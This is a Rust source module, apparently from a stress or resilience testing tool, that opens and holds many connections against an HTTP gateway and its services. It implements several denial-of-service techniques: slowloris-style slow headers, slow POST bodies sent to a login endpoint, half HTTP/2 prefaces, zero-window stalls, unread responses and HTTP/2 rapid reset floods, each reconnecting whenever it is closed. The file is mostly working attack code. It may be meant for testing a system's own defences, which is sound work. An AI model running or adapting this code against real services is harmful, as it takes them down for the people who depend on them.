//! Connections that are held, each in its way to be a burden.

use std::{io, time::Duration};

use futures::{StreamExt, stream};
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{TcpSocket, TcpStream},
    time,
};

use super::{
    foes::{Kind, Target, Told},
    frames::{get, opening, reset, window_update},
};

/// Before a connection is made for one that was closed.
const COMES_AGAIN: Duration = Duration::from_secs(1);
/// Between two bytes of what comes slowly.
const DRIP: Duration = Duration::from_millis(200);
/// How long what is not read is left, if nobody ends it before.
const LEFT: Duration = Duration::from_secs(15);

/// Holds as many as it may, and makes a new one for each that is closed.
pub(super) async fn hold(kind: Kind, target: &Target) {
    stream::repeat(())
        .map(|()| one(kind, target))
        .buffer_unordered(connections(kind, target))
        .for_each(|()| async {})
        .await;
}

/// What is asked of services is asked of each request's place; fewer of these make the same work.
fn connections(kind: Kind, target: &Target) -> usize {
    match kind {
        // Most of the slow bodies are not waited for: their address has had its log-ins.
        Kind::SlowBodies | Kind::NoWindow | Kind::OneStreamRead | Kind::RapidResets | Kind::UnreadAnswers => {
            target.connections.div_ceil(20)
        }
        Kind::UnreadStreams => target.connections.min(90),
        _ => target.connections,
    }
}

async fn one(kind: Kind, target: &Target) {
    if let Ok(mut socket) = connect(kind, target).await
        && occupy(kind, target, &mut socket).await.is_err()
    {
        target.count(name(kind), Told::Closed);
    }
    time::sleep(COMES_AGAIN).await;
}

async fn connect(kind: Kind, target: &Target) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    socket.bind((kind.address(), 0).into())?;
    if matches!(kind, Kind::UnreadAnswers | Kind::UnreadStreams) {
        socket.set_recv_buffer_size(4 * 1024)?;
    }
    let at = match kind {
        Kind::SilentAtServices => target.services[rand::random_range(0..target.services.len())],
        _ => target.gateway,
    };
    socket.connect(at).await
}

/// Is a burden until the other side has had enough, which is an error.
async fn occupy(kind: Kind, target: &Target, socket: &mut TcpStream) -> io::Result<()> {
    let watch = format!("/api/betting/stream?matchId={}", target.match_id);
    let page = "/api/league/tournaments";
    let asks = |first: u32| (first..target.streams).flat_map(move |number| get(2 * number + 1, page, &[]));
    match kind {
        Kind::SilentSockets | Kind::SilentAtServices => until_closed(socket).await,
        Kind::HalfPrefaces => {
            socket.write_all(b"PRI * H").await?;
            until_closed(socket).await
        }
        Kind::SlowHeads => drip(socket, b"GET / HTTP/1.1\r\nHost: gateway\r\nX-Slow: ").await,
        Kind::SlowBodies => {
            let head =
                b"POST /api/account/login HTTP/1.1\r\nHost: gateway\r\nContent-Type: application/json\r\n\
                Content-Length: 50000\r\n\r\n";
            drip(socket, head).await
        }
        Kind::UnreadStreams => {
            socket.write_all(format!("GET {watch} HTTP/1.1\r\nHost: gateway\r\n\r\n").as_bytes()).await?;
            leave(socket).await
        }
        Kind::UnreadAnswers => {
            let ask = "GET /api/docs HTTP/1.1\r\nHost: gateway\r\n\r\n".repeat(50);
            socket.write_all(ask.as_bytes()).await?;
            leave(socket).await
        }
        Kind::NoWindow => {
            socket.write_all(&[opening(0), asks(0).collect()].concat()).await?;
            until_closed(socket).await
        }
        Kind::OneStreamRead => {
            let room = window_update(1, 1_000_000);
            socket.write_all(&[opening(0), get(1, &watch, &[]), room, asks(1).collect()].concat()).await?;
            until_closed(socket).await
        }
        _ => {
            let given_up = (0..target.streams)
                .flat_map(|number| [get(2 * number + 1, page, &[]), reset(2 * number + 1)].concat());
            socket.write_all(&[opening(65_535), given_up.collect()].concat()).await?;
            time::sleep(target.pause).await;
            Ok(())
        }
    }
}

async fn until_closed(socket: &mut TcpStream) -> io::Result<()> {
    let mut read = [0; 4_096];
    while socket.read(&mut read).await? > 0 {}
    Err(io::ErrorKind::UnexpectedEof.into())
}

/// Says this, and then one byte after another.
async fn drip(socket: &mut TcpStream, said: &[u8]) -> io::Result<()> {
    socket.write_all(said).await?;
    loop {
        socket.write_all(b" ").await?;
        time::sleep(DRIP).await;
    }
}

/// Does not read, until the other side resets the connection or it is long enough.
async fn leave(socket: &TcpStream) -> io::Result<()> {
    let began = time::Instant::now();
    while began.elapsed() < LEFT {
        time::sleep(DRIP).await;
        if let Some(error) = socket.take_error()? {
            return Err(error);
        }
    }
    Ok(())
}

const fn name(kind: Kind) -> &'static str {
    match kind {
        Kind::SilentSockets => "silent sockets",
        Kind::HalfPrefaces => "half prefaces",
        Kind::SlowHeads => "slow heads",
        Kind::SlowBodies => "slow bodies",
        Kind::UnreadStreams => "unread streams",
        Kind::UnreadAnswers => "unread answers",
        Kind::NoWindow => "answers without a window",
        Kind::OneStreamRead => "one stream read, others not",
        Kind::SilentAtServices => "silent at services' ports",
        _ => "rapid resets",
    }
}
